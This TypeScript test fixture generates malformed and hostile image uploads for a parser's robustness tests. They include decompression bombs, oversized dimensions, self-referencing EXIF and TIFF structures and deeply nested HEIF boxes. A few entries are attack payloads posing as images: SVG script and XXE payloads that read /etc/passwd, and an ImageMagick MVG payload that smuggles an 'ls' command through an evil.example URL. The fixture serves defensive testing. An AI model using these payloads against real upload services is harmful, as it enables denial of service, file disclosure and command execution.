import { crc32, deflateSync } from 'node:zlib';
import type { UploadType } from '@visafolio/contract/shared/limits.ts';
import sharp from 'sharp';
import { heic } from '../../process/testing/sample-pages.ts';
import type { HostileOpening } from './opening.ts';

const picture = () => sharp({ create: { width: 80, height: 60, channels: 3, background: '#9ab' } });

function chunk(type: string, body: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), body]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(body.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}
const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
function header(width: number, height: number, depth = 8, colour = 0): Buffer {
  const body = Buffer.alloc(13);
  body.writeUInt32BE(width, 0);
  body.writeUInt32BE(height, 4);
  body[8] = depth;
  body[9] = colour;
  return chunk('IHDR', body);
}
const end = chunk('IEND', Buffer.alloc(0));
const png = (...chunks: Buffer[]) => Buffer.concat([signature, ...chunks, end]);
const ordinary = () => [header(1, 1), chunk('IDAT', deflateSync(Buffer.from([0, 0])))] as const;
const bomb = (bytes: number) => deflateSync(Buffer.alloc(bytes), { level: 9 });
const profile = (body: Uint8Array) => chunk('iCCP', Buffer.concat([Buffer.from('a\0\0', 'latin1'), body]));

const segment = (marker: number, body: Uint8Array): Buffer => {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
};
/** A photo with these segments after its beginning. */
const jpeg = async (...segments: Buffer[]) => {
  const whole = await picture().jpeg().toBuffer();
  return Buffer.concat([whole.subarray(0, 2), ...segments, whole.subarray(2)]);
};
const exif = (body: Buffer) => segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), body]));
/** One entry of EXIF: tag, type, count, value or place. */
function exifEntry(tag: number, type: number, count: number, value: number, next = 0): Buffer {
  const body = Buffer.alloc(26);
  body.write('MM\0*\0\0\0\x08', 'latin1');
  body.writeUInt16BE(1, 8);
  body.writeUInt16BE(tag, 10);
  body.writeUInt16BE(type, 12);
  body.writeUInt32BE(count, 14);
  body.writeUInt32BE(value, 18);
  body.writeUInt32BE(next, 22);
  return body;
}
const patched = async (bytes: Buffer | Promise<Buffer>, change: (bytes: Buffer) => void) => {
  const copy = Buffer.from(await bytes);
  change(copy);
  return copy;
};
const setSize = (bytes: Buffer, width: number, height: number) => {
  const at = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(height, at + 5);
  bytes.writeUInt16BE(width, at + 7);
};

/** TIFF of one directory: entries of tag, type, count, value. */
function tiff(entries: [number, number, number, number][], next = 0, data = Buffer.alloc(0)): Buffer {
  const body = Buffer.alloc(8 + 2 + entries.length * 12 + 4);
  body.write('II*\0\x08\0\0\0', 'latin1');
  body.writeUInt16LE(entries.length, 8);
  for (const [i, [tag, type, count, value]] of entries.entries()) {
    const at = 10 + i * 12;
    body.writeUInt16LE(tag, at);
    body.writeUInt16LE(type, at + 2);
    body.writeUInt32LE(count, at + 4);
    body.writeUInt32LE(value, at + 8);
  }
  body.writeUInt32LE(next, body.length - 4);
  return Buffer.concat([body, data]);
}
const shape = (width: number, height: number, compression = 1): [number, number, number, number][] => [
  [256, 4, 1, width],
  [257, 4, 1, height],
  [258, 3, 1, 8],
  [259, 3, 1, compression],
  [262, 3, 1, 1],
  [277, 3, 1, 1],
];
const box = (type: string, body: Uint8Array, size = body.length + 8): Buffer => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(size >>> 0, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
};
const brand = box('ftyp', Buffer.from('heic\0\0\0\0mif1heic', 'latin1'));
const heif = (...boxes: Buffer[]) => Buffer.concat([brand, ...boxes]);
const full = (body: Buffer) => Buffer.concat([Buffer.alloc(4), body]);
const nestedBoxes = (depth: number) => {
  let body = Buffer.alloc(0);
  for (let level = 0; level < depth; level++) body = box('meta', full(body)) as Buffer<ArrayBuffer>;
  return body;
};
const findBox = (bytes: Buffer, type: string) => bytes.indexOf(Buffer.from(type, 'latin1'));

const builders: [UploadType, string, HostileOpening['build'], slow?: 'slow'][] = [
  ['png', 'nothing', () => Buffer.alloc(0)],
  ['png', 'a head alone', () => signature],
  [
    'png',
    'two thousand million pixels wide',
    () => png(header(0x7fffffff, 0x7fffffff), chunk('IDAT', bomb(1_000))),
  ],
  [
    'png',
    '60,000 by 60,000 pixels of one colour',
    () => png(header(60_000, 60_000), chunk('IDAT', bomb(50_000_000))),
    'slow',
  ],
  [
    'png',
    '16,000 by 16,000 pixels that are all there',
    () => png(header(16_000, 16_000), chunk('IDAT', bomb(256_016_000))),
    'slow',
  ],
  ['png', 'no pixels', () => png(header(0, 0), chunk('IDAT', bomb(1)))],
  ['png', 'a depth that there is not', () => png(header(1, 1, 77, 9), chunk('IDAT', bomb(9)))],
  ['png', 'a wrong checksum', () => patched(png(...ordinary()), (bytes) => void bytes.writeUInt32BE(1, 29))],
  ['png', 'no picture', () => png(header(9, 9))],
  ['png', 'half of it', async () => (await picture().png().toBuffer()).subarray(0, 60)],
  [
    'png',
    'a text that is a bomb of 100 MB',
    () =>
      png(
        header(1, 1),
        chunk('zTXt', Buffer.concat([Buffer.from('a\0\0', 'latin1'), bomb(100_000_000)])),
        ordinary()[1],
      ),
  ],
  [
    'png',
    'a colour profile that is a bomb of 100 MB',
    () => png(header(1, 1), profile(bomb(100_000_000)), ordinary()[1]),
  ],
  [
    'png',
    'a colour profile of noise',
    () => png(header(1, 1), profile(deflateSync(Buffer.alloc(5_000, 0xa5))), ordinary()[1]),
  ],
  [
    'png',
    '100,000 texts',
    () =>
      png(
        header(1, 1),
        ...Array.from({ length: 100_000 }, () => chunk('tEXt', Buffer.from('a\0b'))),
        ordinary()[1],
      ),
  ],
  [
    'png',
    'a chunk longer than the file',
    () => patched(png(...ordinary()), (bytes) => void bytes.writeUInt32BE(0x7fffffff, 33)),
  ],
  [
    'png',
    'a palette that is missing',
    () => png(header(2, 2, 8, 3), chunk('IDAT', deflateSync(Buffer.alloc(6)))),
  ],
  [
    'png',
    'a drawing in SVG',
    () =>
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>',
      ),
  ],
  [
    'png',
    'SVG after a head of PNG',
    () => Buffer.concat([signature, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')]),
  ],
  [
    'png',
    'SVG of an external entity',
    () =>
      Buffer.from(
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
      ),
  ],
  ['png', 'a web page', () => Buffer.from('<html><script>alert(1)</script>')],
  [
    'png',
    'commands of ImageMagick',
    () =>
      Buffer.from('push graphic-context\nfill \'url(https://evil.example/"|ls "-la)\'\npop graphic-context'),
  ],
  ['jpg', 'nothing', () => Buffer.alloc(0)],
  ['jpg', 'two bytes', () => Buffer.from([0xff, 0xd8])],
  [
    'jpg',
    '65,535 by 65,535 pixels that are not there',
    () => patched(picture().jpeg().toBuffer(), (bytes) => setSize(bytes, 65_535, 65_535)),
    'slow',
  ],
  ['jpg', 'no pixels', () => patched(picture().jpeg().toBuffer(), (bytes) => setSize(bytes, 0, 0))],
  ['jpg', 'half of it', async () => (await picture().jpeg().toBuffer()).subarray(0, 400)],
  ['jpg', 'a GIF', () => picture().gif().toBuffer()],
  [
    'jpg',
    'EXIF whose directory is the next one of itself',
    () => jpeg(exif(exifEntry(0x112, 3, 1, 1 << 16, 8))),
  ],
  ['jpg', 'EXIF of four thousand million entries', () => jpeg(exif(exifEntry(0x10f, 2, 0xffffffff, 0)))],
  ['jpg', 'EXIF that points beyond its end', () => jpeg(exif(exifEntry(0x8769, 4, 1, 0xfffffff0)))],
  ['jpg', 'EXIF whose sub-directory is itself', () => jpeg(exif(exifEntry(0x8769, 4, 1, 8)))],
  [
    'jpg',
    'EXIF of 65,000 entries that are not there',
    () => jpeg(exif(Buffer.from('MM\0*\0\0\0\x08\xff\xff', 'latin1'))),
  ],
  ['jpg', 'EXIF with a direction that there is not', () => jpeg(exif(exifEntry(0x112, 3, 1, 999 << 16)))],
  ['jpg', 'EXIF with a thumbnail beyond the end', () => jpeg(exif(exifEntry(0x201, 4, 1, 0xffffffff)))],
  [
    'jpg',
    'a colour profile in parts that are missing',
    () => jpeg(segment(0xe2, Buffer.from('ICC_PROFILE\0\xff\xff', 'latin1'))),
  ],
  [
    'jpg',
    'a colour profile of noise',
    () =>
      jpeg(
        segment(
          0xe2,
          Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), Buffer.alloc(60_000, 0x5a)]),
        ),
      ),
  ],
  [
    'jpg',
    'a colour profile that says it has 4 GB',
    () =>
      jpeg(
        segment(
          0xe2,
          Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01\xff\xff\xff\xff', 'latin1'), Buffer.alloc(500)]),
        ),
      ),
  ],
  [
    'jpg',
    '20,000 segments',
    () => jpeg(...Array.from({ length: 20_000 }, () => segment(0xfe, Buffer.from('a')))),
  ],
  ['jpg', 'a segment longer than the file', () => jpeg(Buffer.from([0xff, 0xe1, 0xff, 0xff]))],
  [
    'jpg',
    'tables that are missing',
    () =>
      patched(
        picture().jpeg().toBuffer(),
        (bytes) => void bytes.writeUInt16BE(0xfffe, bytes.indexOf(Buffer.from([0xff, 0xdb]))),
      ),
  ],
  [
    'jpg',
    'two thousand scans',
    async () => {
      const whole = await picture().jpeg({ progressive: true }).toBuffer();
      const scan = whole.lastIndexOf(Buffer.from([0xff, 0xda]));
      return Buffer.concat([
        whole.subarray(0, -2),
        ...Array.from({ length: 2_000 }, () => whole.subarray(scan, -2)),
        Buffer.from([0xff, 0xd9]),
      ]);
    },
    'slow',
  ],
  [
    'webp',
    'a canvas of 16,384 by 16,384',
    () =>
      patched(
        picture().webp().toBuffer(),
        (bytes) => void bytes.writeUInt32LE(0xffffffff, bytes.length > 26 ? 26 : 20),
      ),
  ],
  [
    'webp',
    'a length that is wrong',
    () => patched(picture().webp().toBuffer(), (bytes) => void bytes.writeUInt32LE(0xfffffffe, 4)),
  ],
  ['webp', 'half of it', async () => (await picture().webp().toBuffer()).subarray(0, 40)],
  ['webp', 'a head alone', () => Buffer.from('RIFF\0\0\0\0WEBP', 'latin1')],
  [
    'webp',
    'an animation without pictures',
    () => Buffer.from('RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0\xff\x3f\0\xff\x3f\0ANIM', 'latin1'),
  ],
  ['tiff', 'a head alone', () => Buffer.from('II*\0\x08\0\0\0', 'latin1')],
  ['tiff', 'a directory whose next one is itself', () => tiff(shape(1, 1), 8)],
  [
    'tiff',
    'two thousand million pixels wide',
    () => tiff([...shape(0x7fffffff, 0x7fffffff), [273, 4, 1, 8], [278, 4, 1, 1], [279, 4, 1, 4]]),
  ],
  [
    'tiff',
    'strips beyond the end',
    () => tiff([...shape(100, 100), [273, 4, 1, 0xfffffff0], [278, 4, 1, 100], [279, 4, 1, 10_000]]),
  ],
  [
    'tiff',
    'a thousand million strips',
    () => tiff([...shape(100, 100), [273, 4, 0x3fffffff, 8], [278, 4, 1, 1], [279, 4, 0x3fffffff, 8]]),
  ],
  [
    'tiff',
    'tiles of no size',
    () => tiff([...shape(100, 100), [322, 4, 1, 0], [323, 4, 1, 0], [324, 4, 1, 8], [325, 4, 1, 4]]),
  ],
  [
    'tiff',
    'a bomb of 400 MB',
    () => {
      const data = bomb(400_000_000);
      return tiff(
        [...shape(20_000, 20_000, 8), [273, 4, 1, 122], [278, 4, 1, 20_000], [279, 4, 1, data.length]],
        0,
        data,
      );
    },
    'slow',
  ],
  [
    'tiff',
    'a compression that there is not',
    () => tiff([...shape(9, 9, 31_337), [273, 4, 1, 8], [278, 4, 1, 9], [279, 4, 1, 81]]),
  ],
  [
    'tiff',
    'a big file that is small',
    () => Buffer.from('II+\0\x08\0\0\0\xff\xff\xff\xff\xff\xff\xff\x7f', 'latin1'),
  ],
  ['heic', 'a brand alone', () => heif()],
  ['heic', 'half of it', async () => (await heic()).subarray(0, 20_000)],
  ['heic', 'a box of no length', () => heif(box('meta', Buffer.alloc(20), 0))],
  ['heic', 'a box longer than the file', () => heif(box('meta', Buffer.alloc(20), 0xfffffff0))],
  ['heic', 'a box shorter than its head', () => heif(box('meta', Buffer.alloc(20), 3))],
  ['heic', 'a box of 2^63 bytes', () => heif(box('meta', Buffer.from('7fffffffffffffff00000000', 'hex'), 1))],
  ['heic', 'boxes 2,000 deep', () => heif(nestedBoxes(2_000))],
  [
    'heic',
    '100,000 boxes',
    () => heif(...Array.from({ length: 100_000 }, () => box('free', Buffer.alloc(0)))),
  ],
  [
    'heic',
    'places beyond the end',
    async () =>
      patched(
        heic(),
        (bytes) => void bytes.fill(0xff, findBox(bytes, 'iloc') + 14, findBox(bytes, 'iloc') + 30),
      ),
  ],
  [
    'heic',
    'properties of 65,535 items',
    async () => patched(heic(), (bytes) => void bytes.writeUInt32BE(0xffff, findBox(bytes, 'ipma') + 8)),
  ],
  [
    'heic',
    'a size of four thousand million',
    async () =>
      patched(
        heic(),
        (bytes) => void bytes.fill(0xff, findBox(bytes, 'ispe') + 8, findBox(bytes, 'ispe') + 16),
      ),
  ],
  [
    'heic',
    'a main picture that is not there',
    async () => patched(heic(), (bytes) => void bytes.writeUInt16BE(0xfffe, findBox(bytes, 'pitm') + 8)),
  ],
  [
    'heic',
    'noise instead of pixels',
    async () => patched(heic(), (bytes) => void bytes.fill(0x5a, findBox(bytes, 'mdat') + 100)),
  ],
];

export const brokenPictures: HostileOpening[] = builders.map(([type, what, build, slow]) => ({
  type,
  what,
  build,
  ...(slow && { isSlow: true }),
}));
